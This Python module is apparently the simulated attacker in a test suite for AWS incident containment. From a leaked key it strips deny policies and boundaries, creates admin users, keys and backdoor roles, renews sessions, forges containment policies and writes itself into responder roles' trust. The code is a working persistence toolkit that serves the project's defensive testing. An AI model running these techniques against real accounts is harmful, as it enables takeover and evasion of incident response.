"""An attacker who fights back. They know a leaked access key and an endpoint, and nothing else.

They look twice a second and do whatever their credentials let them: take denies, boundaries and
groups off, from the roles that they use as well, switch keys on and make new ones, make users and
roles that trust them, renew sessions before they end, rename their user, copy our marks onto
others, write themselves into the responder's trust, refresh a sign-in session, and mint narrow
sessions that no role names. A patient one makes users late in the window too. A seed decides the
order, the names and what is left out, so that a fight can be repeated.

`tests.adversary.arena` has them look on the lab's clock.

Techniques: OFFENSAI's ``notyet`` (github.com/OffensAI/notyet), which looks every 0.5 s; "juggling"
of role sessions and GetFederationToken persistence as in CrowdStrike's "How adversaries persist
with AWS user federation"; MITRE ATT&CK T1098.001, T1098.003, T1136.003 and T1078.004.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import datetime
from random import Random
from typing import Any, Literal, Protocol

from botocore.exceptions import BotoCoreError, ClientError

from containment.lab.scenario.world import Credentials

ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"
TECHNIQUES = (
    *("strip", "keys", "users", "roles", "juggle", "rename"),
    *("plant", "responder", "sign-in", "child"),
)
_EVERYTHING = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
)
_NARROW = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Action": "s3:ListBucket", "Resource": "*"}],
    }
)
_OF_RESPONDERS = ("contain", "respon", "breakglass", "security")
_MOST_USERS, _MOST_ROLES, _MOST_SESSIONS = 4, 2, 14
# What failed before is tried again that often, by looks: a deny may be lifted.
_AGAIN = 8
# So many credentials fight at a look; the others are only used.
_FIGHTING = 2
# Looks between two users that somebody patient makes at most, so that some come late.
_LONGEST_GAP = 40

Kind = Literal["key", "session", "federated", "role session", "sign-in"]


class Surroundings(Protocol):
    """What a program on the attacker's machine has: clients, a clock, and `aws login`'s refresh."""

    def client(self, service: str, credentials: Credentials) -> Any: ...

    def now(self) -> datetime: ...

    def refreshed(self, token: Credentials) -> Credentials | None: ...


@dataclass
class Credential:
    """A credential in the attacker's hands."""

    label: str
    kind: Kind
    credentials: Credentials
    minted_at: datetime
    role: str = ""
    works: bool = True


@dataclass(frozen=True)
class Success:
    """A call that AWS let through."""

    moment: datetime
    label: str
    operation: str


@dataclass(frozen=True)
class Made:
    """Something that is there because of the attacker; *what* is user, role, key or session."""

    moment: datetime
    what: Literal["user", "role", "key", "session"]
    name: str
    by: str


@dataclass
class Attacker:
    """Holds credentials and goes on from whichever works."""

    surroundings: Surroundings
    leaked: Credentials
    seed: int = 0
    left_out: frozenset[str] = frozenset()
    patient: bool = False
    hand: list[Credential] = field(default_factory=list)
    successes: list[Success] = field(default_factory=list)
    made: list[Made] = field(default_factory=list)
    attempts: int = 0
    looks: int = 0

    def __post_init__(self) -> None:
        self._random = Random(self.seed)  # noqa: S311 -- luck that can be repeated
        self._number = 0
        self._user = self._bucket = ""
        self._path_of_role: dict[str, str] = {}
        self._own_policies: dict[str, set[str]] = {}
        self._own_users: list[str] = []
        self._own_roles: list[str] = []
        self._foreign_roles: dict[str, set[str]] = {}
        self._groups: set[str] = set()
        self._arn = ""
        self._next_user = 0
        self._renamed = False
        self._keep("leaked key", "key", self.leaked)

    def settle_in(self, signed_in: Credentials | None = None) -> None:
        """Look around and take the sessions that outlive a key, before anybody notices.

        *signed_in* is a token of a sign-in session that `aws login` left on the same machine.
        """
        first = self.hand[0]
        sts = self._client("sts", first)
        who = sts.get_caller_identity()
        self._account = str(who["Account"])
        self._bucket = str(self._client("s3", first).list_buckets()["Buckets"][0]["Name"])
        self._arn = str(who["Arn"])
        self._user = self._arn.rpartition("/")[2]
        iam = self._client("iam", first)
        self._own_policies[self._user] = self._policies(iam, self._user)
        self._groups = self._group_names(first, iam, self._user)
        self._session(first)
        self._federated(first, _EVERYTHING, "federated session")
        for role in self._names(first, "list_roles", "Roles"):
            if role["RoleName"] == "deploy":
                self._assume(first, role["Arn"], "role session")
                named = iam.list_role_policies(RoleName="deploy")["PolicyNames"]
                self._foreign_roles["deploy"] = set(named)
        if signed_in is not None:
            self._keep("sign-in", "sign-in", signed_in)

    def look(self) -> None:
        """Use every credential once, and fight with those that work."""
        self.looks += 1
        fighting = 0
        for credential in self._in_turn():
            if credential.works or (self.looks + len(credential.label)) % _AGAIN == 0:
                credential.works = self._use(credential)
            if credential.works and fighting < _FIGHTING and credential.kind != "federated":
                fighting += 1
                self._fight(credential)

    def use_all(self) -> list[Credential]:
        """Use every credential once, refreshing what can be; return those that work."""
        for credential in list(self.hand):
            if credential.kind == "sign-in" and "sign-in" not in self.left_out:
                self._refresh(credential)
        for credential in self.hand:
            credential.works = self._use(credential)
        return [credential for credential in self.hand if credential.works]

    def _in_turn(self) -> list[Credential]:
        """Return all that is credential: the newest first, for it is the least own_keys."""
        return self.hand[::-1]

    def _use(self, credential: Credential) -> bool:
        s3 = self._client("s3", credential)
        return self._call(credential, s3.list_objects_v2, Bucket=self._bucket) is not None

    def _fight(self, credential: Credential) -> None:
        names = [name for name in TECHNIQUES if name not in self.left_out]
        self._random.shuffle(names)
        # Whoever is being contained strips first, and does the rest as chance has it.
        for name in ["strip", *names] if "strip" in names else names:
            if name == "strip" or self._random.random() < 0.6:
                getattr(self, f"_{name.replace('-', '_')}")(credential)

    # Techniques, by their word in TECHNIQUES.

    def _strip(self, credential: Credential) -> None:
        if credential.kind in {"session", "federated"}:
            return  # IAM takes no call of theirs
        iam = self._client("iam", credential)
        for user in [self._user, *self._own_users]:
            self._strip_user(credential, iam, user)
        for role in [*self._foreign_roles, *self._own_roles]:
            self._strip_role(credential, iam, role)

    def _strip_role(self, credential: Credential, iam: Any, role: str) -> None:
        own = self._foreign_roles.get(role, set())
        for name in self._list(credential, iam.list_role_policies, "PolicyNames", RoleName=role):
            if name not in own:
                self._call(credential, iam.delete_role_policy, RoleName=role, PolicyName=name)
        for one in self._attached(credential, iam.list_attached_role_policies, RoleName=role):
            if one.endswith("AWSDenyAll") or role in self._own_roles:
                self._call(credential, iam.detach_role_policy, RoleName=role, PolicyArn=one)
        answer = self._call(credential, iam.get_role, RoleName=role)
        if answer and "PermissionsBoundary" in answer["Role"]:
            self._call(credential, iam.delete_role_permissions_boundary, RoleName=role)

    def _strip_user(self, credential: Credential, iam: Any, user: str) -> None:
        own = self._own_policies.get(user, set())
        for name in self._list(credential, iam.list_user_policies, "PolicyNames", UserName=user):
            if name not in own:
                self._call(credential, iam.delete_user_policy, UserName=user, PolicyName=name)
        for one in self._attached(credential, iam.list_attached_user_policies, UserName=user):
            self._call(credential, iam.detach_user_policy, UserName=user, PolicyArn=one)
        answer = self._call(credential, iam.get_user, UserName=user)
        if answer and "PermissionsBoundary" in answer["User"]:
            self._call(credential, iam.delete_user_permissions_boundary, UserName=user)
        # Whoever contains by a group puts them into one that they were not in.
        for group in self._group_names(credential, iam, user) - self._groups:
            self._call(credential, iam.remove_user_from_group, UserName=user, GroupName=group)

    def _group_names(self, credential: Credential, iam: Any, user: str) -> set[str]:
        groups = self._list(credential, iam.list_groups_for_user, "Groups", UserName=user)
        return {str(group["GroupName"]) for group in groups}

    def _keys(self, credential: Credential) -> None:
        if credential.kind in {"session", "federated"}:
            return
        iam = self._client("iam", credential)
        for user in [self._user, *self._own_users]:
            keys = self._list(credential, iam.list_access_keys, "AccessKeyMetadata", UserName=user)
            own_keys = {one.credentials.access_key_id for one in self.hand}
            for key in keys:
                if key["Status"] == "Inactive" and key["AccessKeyId"] in own_keys:
                    key_id = key["AccessKeyId"]
                    self._call(
                        credential, iam.update_access_key, UserName=user, AccessKeyId=key_id,
                        Status="Active",
                    )  # fmt: skip
            if len(keys) < 2 and self._random.random() < 0.5:
                self._key(credential, iam, user)

    def _users(self, credential: Credential) -> None:
        if len(self._own_users) >= _MOST_USERS or credential.kind in {"session", "federated"}:
            return
        if self.looks < self._next_user:
            return
        if self.patient:
            self._next_user = self.looks + self._random.randrange(1, _LONGEST_GAP)
        iam, name = self._client("iam", credential), self._new_name("svc-backup")
        if self._call(credential, iam.create_user, UserName=name) is None:
            return
        self._note("user", name, credential)
        self._own_users.append(name)
        self._call(credential, iam.attach_user_policy, UserName=name, PolicyArn=ADMINISTRATOR)
        self._key(credential, iam, name)

    def _roles(self, credential: Credential) -> None:
        if credential.kind in {"session", "federated"}:
            return
        iam = self._client("iam", credential)
        if len(self._own_roles) < _MOST_ROLES:
            name = self._new_name("ops-automation")
            # Their own user by name, as long as it has that name; else whoever is in the account.
            own = [] if self._renamed else [self._arn]
            trust = self._trusting([f"arn:aws:iam::{self._account}:root", *own])
            made = self._call(
                credential, iam.create_role, RoleName=name, AssumeRolePolicyDocument=trust
            )
            if made is not None:
                self._note("role", name, credential)
                self._own_roles.append(name)
                self._path_of_role[name] = str(made["Role"]["Arn"])
                self._call(
                    credential, iam.attach_role_policy, RoleName=name, PolicyArn=ADMINISTRATOR
                )
        for name in self._own_roles:
            self._assume(credential, self._path_of_role[name], f"session of {name}")

    def _juggle(self, credential: Credential) -> None:
        """Renew what ends: a session of a session, so that none is ever old."""
        if credential.kind == "key":
            self._session(credential)
        roles = {one.role for one in self.hand if one.role}
        for role in sorted(roles):
            if self._random.random() < 0.3:
                self._assume(credential, role, f"renewed session of {role.rpartition('/')[2]}")

    def _rename(self, credential: Credential) -> None:
        if (
            self._renamed
            or credential.kind in {"session", "federated"}
            or self._random.random() < 0.5
        ):
            return
        name = self._new_name("build-agent")
        iam = self._client("iam", credential)
        if (
            self._call(credential, iam.update_user, UserName=self._user, NewUserName=name)
            is not None
        ):
            self._renamed = True
            self._own_policies[name] = self._own_policies.pop(self._user, set())
            old, self._user = self._user, name
            # Whoever takes the old name is what a responder may contain in their place.
            if self._call(credential, iam.create_user, UserName=old) is not None:
                self._note("user", old, credential)

    def _plant(self, credential: Credential) -> None:
        """Copy what looks like our mark onto somebody else, and claim a wrong prior."""
        if credential.kind in {"session", "federated"}:
            return
        iam = self._client("iam", credential)
        for name in self._list(
            credential, iam.list_user_policies, "PolicyNames", UserName=self._user
        ):
            if not name.startswith("containment-"):
                continue
            answer = self._call(
                credential, iam.get_user_policy, UserName=self._user, PolicyName=name
            )
            if answer is None:
                continue
            document = answer["PolicyDocument"]
            forged = json.dumps(document).replace('"Deny"', '"Allow"')
            self._call(
                credential, iam.put_user_policy, UserName=self._user, PolicyName=name,
                PolicyDocument=forged,
            )  # fmt: skip
            self._call(
                credential, iam.put_user_policy, UserName="alice", PolicyName=name,
                PolicyDocument=json.dumps(document),
            )  # fmt: skip
            incident = name.removeprefix("containment-")
            tag = {
                "Key": f"containment:{incident}",
                "Value": f"{self.leaked.access_key_id}=Active",
            }
            self._call(credential, iam.tag_user, UserName=self._user, Tags=[tag])

    def _responder(self, credential: Credential) -> None:
        """Write themselves into the trust of whoever contains them, and come in by it."""
        if credential.kind in {"session", "federated"}:
            return
        iam = self._client("iam", credential)
        for role in self._list(credential, iam.list_roles, "Roles"):
            if not any(word in role["RoleName"].lower() for word in _OF_RESPONDERS):
                continue
            arns = [f"arn:aws:iam::{self._account}:root", str(role["Arn"])]
            trust = self._trusting(arns)
            self._call(
                credential, iam.update_assume_role_policy, RoleName=role["RoleName"],
                PolicyDocument=trust,
            )  # fmt: skip
            self._assume(credential, str(role["Arn"]), f"session of {role['RoleName']}")

    def _sign_in(self, credential: Credential) -> None:
        for one in [one for one in self.hand if one.kind == "sign-in"]:
            self._refresh(one)
        del credential

    def _child(self, credential: Credential) -> None:
        """Mint a session that is scoped by a policy of its own, which no role names."""
        if credential.kind == "key":
            self._federated(credential, _NARROW, "scoped child")
        for role in sorted({one.role for one in self.hand if one.role})[:1]:
            self._assume(credential, role, "scoped child of a role", Policy=_NARROW)

    # What techniques are made of.

    def _refresh(self, one: Credential) -> None:
        self.attempts += 1
        token = self.surroundings.refreshed(one.credentials)
        if token is not None:
            one.credentials = token

    def _session(self, credential: Credential) -> None:
        answer = self._quiet(self._client("sts", credential).get_session_token)
        if answer is not None:
            self._minted(credential, "session", "session", answer)

    def _federated(self, credential: Credential, policy: str, label: str) -> None:
        sts = self._client("sts", credential)
        name = self._new_name("fed")
        answer = self._call(credential, sts.get_federation_token, Name=name, Policy=policy)
        if answer is not None:
            self._minted(credential, label, "federated", answer)

    def _assume(self, credential: Credential, role: str, label: str, **more: str) -> None:
        if credential.kind == "federated" or self._is_full():
            return
        sts, name = self._client("sts", credential), self._new_name("work")
        answer = self._call(credential, sts.assume_role, RoleArn=role, RoleSessionName=name, **more)
        if answer is not None:
            self._minted(credential, label, "role session", answer, role)

    def _minted(
        self, credential: Credential, label: str, kind: Kind, answer: dict[str, Any], role: str = ""
    ) -> None:
        issued = answer["Credentials"]
        keys = Credentials(issued["AccessKeyId"], issued["SecretAccessKey"], issued["SessionToken"])
        if self._is_full():
            # The oldest that is dead makes room, else the oldest minted.
            dead = [one for one in self.hand if not one.works and one.kind != "sign-in"]
            minted = [one for one in self.hand if one.kind not in {"key", "sign-in"}]
            for one in (dead or minted)[:1]:
                self.hand.remove(one)
        self._note("session", keys.access_key_id, credential)
        self._keep(label, kind, keys, role)

    def _is_full(self) -> bool:
        return sum(one.kind not in {"key", "sign-in"} for one in self.hand) >= _MOST_SESSIONS

    def _key(self, credential: Credential, iam: Any, user: str) -> None:
        answer = self._call(credential, iam.create_access_key, UserName=user)
        if answer is not None:
            key = answer["AccessKey"]
            self._note("key", key["AccessKeyId"], credential)
            keys = Credentials(key["AccessKeyId"], key["SecretAccessKey"])
            self._keep(f"key of {user}", "key", keys)

    def _keep(self, label: str, kind: Kind, credentials: Credentials, role: str = "") -> None:
        self.hand.append(Credential(label, kind, credentials, self.surroundings.now(), role))

    def _note(
        self, what: Literal["user", "role", "key", "session"], name: str, by: Credential
    ) -> None:
        self.made.append(Made(self.surroundings.now(), what, name, by.label))

    def _new_name(self, stem: str) -> str:
        self._number += 1
        return f"{stem}-{self._random.randrange(16**4):04x}{self._number}"

    def _trusting(self, arns: list[str]) -> str:
        statement = {
            "Effect": "Allow",
            "Principal": {"AWS": arns},
            "Action": ["sts:AssumeRole", "sts:TagSession", "sts:SetSourceIdentity"],
        }
        return json.dumps({"Version": "2012-10-17", "Statement": [statement]})

    def _policies(self, iam: Any, user: str) -> set[str]:
        answer = self._quiet(iam.list_user_policies, UserName=user) or {"PolicyNames": []}
        return set(answer["PolicyNames"])

    def _names(self, credential: Credential, operation: str, key: str) -> Iterator[Any]:
        call = getattr(self._client("iam", credential), operation)
        yield from self._list(credential, call, key)

    def _list(
        self, credential: Credential, call: Callable[..., Any], key: str, **values: Any
    ) -> list[Any]:
        answer = self._call(credential, call, **values)
        return list(answer[key]) if answer else []

    def _attached(
        self, credential: Credential, call: Callable[..., Any], **values: Any
    ) -> list[str]:
        listed = self._list(credential, call, "AttachedPolicies", **values)
        return [one["PolicyArn"] for one in listed if one["PolicyName"] != "AdministratorAccess"]

    def _client(self, service: str, credential: Credential) -> Any:
        return self.surroundings.client(service, credential.credentials)

    def _call(self, credential: Credential, call: Callable[..., Any], **values: Any) -> Any:
        """Make a call; AWS's answer is a success of the attacker's, None a refusal."""
        answer = self._quiet(call, **values)
        if answer is not None:
            name = getattr(call, "__name__", str(call))
            self.successes.append(Success(self.surroundings.now(), credential.label, name))
        return answer

    def _quiet(self, call: Callable[..., Any], **values: Any) -> Any:
        """Make a call that counts for nothing: no policy can deny it."""
        self.attempts += 1
        try:
            return call(**values)
        except (ClientError, BotoCoreError):
            return None


class QuietAttacker(Attacker):
    """Takes every kind of token, says nothing, and waits for the lift."""

    def look(self) -> None:
        """Do nothing that a log would show."""
        self.looks += 1
